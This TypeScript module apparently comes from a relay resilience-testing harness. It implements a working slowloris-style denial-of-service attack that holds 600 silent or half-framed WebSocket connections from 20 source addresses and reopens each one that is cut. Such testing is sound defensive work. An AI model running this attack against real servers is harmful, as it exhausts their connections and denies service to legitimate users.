import type { Socket } from 'node:net'
import type { Attack, GroundSetting } from '../attack.ts'
import { hostileAddress } from '../tools/from-address.ts'
import { silentUpgrade } from '../tools/silent-upgrade.ts'
import { pauseOrEnd, tellUntilEnd } from '../tools/tell-until-end.ts'

const ADDRESSES = 20
/** A relay takes 64 of each address. */
const FROM_EACH = 30
const COME_BACK_MS = 100
const STAND_MS = 5000

/** What this keeps out is whoever joins, so each question comes from a node that has just joined. */
export const setting: GroundSetting = { isEachNew: true }

/** The first byte of a WebSocket frame: after it the relay waits for more, so that it looks as if its turn had come. */
const MUMBLE = Uint8Array.of(0x82)

/**
 * Twenty addresses that hold 600 WebSockets over which nothing is ever said, or over every second one a single byte, and
 * come back whenever one is cut.
 */
export const attack: Attack = async ({ relays }, { signal, tell }) => {
  const url = relays[0]?.url ?? ''
  const held = new Set<Socket>()
  let sockets = 0
  const hold = async (address: string): Promise<void> => {
    const taken = await silentUpgrade({ url, localAddress: address }, (socket) => {
      held.add(socket)
      sockets++
      socket.once('close', () => {
        held.delete(socket)
        if (!signal.aborted) setTimeout(() => void hold(address), COME_BACK_MS)
      })
    })
    if (sockets % 2 === 0) taken?.write(MUMBLE)
  }
  // Not awaited: a relay may let them wait. What it takes at all it has taken some seconds later.
  for (let count = 0; count < FROM_EACH; count++)
    for (let n = 1; n <= ADDRESSES; n++) void hold(hostileAddress(n))
  await pauseOrEnd(signal, STAND_MS)
  await tellUntilEnd(signal, () => tell({ addresses: ADDRESSES, sockets }), held)
}
